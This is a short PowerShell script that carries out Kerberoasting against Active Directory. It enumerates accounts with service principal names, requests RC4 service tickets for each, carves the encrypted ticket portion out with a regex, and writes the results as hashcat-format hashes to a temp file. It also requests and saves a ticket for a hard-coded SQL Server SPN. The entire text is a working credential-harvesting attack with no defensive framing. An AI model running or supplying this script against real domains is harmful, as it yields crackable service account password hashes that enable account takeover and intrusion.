# Request RC4 service tickets for every SPN account and dump them in hashcat format.
Add-Type -AssemblyName System.IdentityModel

$searcher = New-Object System.DirectoryServices.DirectorySearcher([ADSI]'')
$searcher.Filter = '(&(samAccountType=805306368)(servicePrincipalName=*)(!samAccountName=krbtgt))'
$searcher.PageSize = 1000
[void]$searcher.PropertiesToLoad.Add('samaccountname')
[void]$searcher.PropertiesToLoad.Add('serviceprincipalname')

$hashes = foreach ($r in $searcher.FindAll()) {
    $user = $r.Properties['samaccountname'][0]
    $spn = $r.Properties['serviceprincipalname'][0]
    try {
        $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
        $bytes = $ticket.GetRequest()
        $hex = [BitConverter]::ToString($bytes) -replace '-'
        if ($hex -match 'a382....3082....A0030201(?<EType>..)A1.{1,4}.......A282(?<CipherTextLen>....)........(?<DataToEnd>.+)') {
            $cipher = $Matches.DataToEnd.Substring(0, [Convert]::ToInt32($Matches.CipherTextLen, 16) * 2 - 4)
            '$krb5tgs$23$*{0}${1}*${2}${3}' -f $user, $spn, $cipher.Substring(0, 32), $cipher.Substring(32)
        }
    }
    catch {
        Write-Warning "no ticket for $spn"
    }
}

# second spelling, through the .NET class directly
$tok = [System.IdentityModel.Tokens.KerberosRequestorSecurityToken]::new('MSSQLSvc/sql01.corp.local:1433')
$tok.GetRequest() | Set-Content -Path "$env:TEMP\t.bin" -Encoding Byte

$hashes | Out-File -FilePath "$env:TEMP\roast.txt" -Encoding ascii
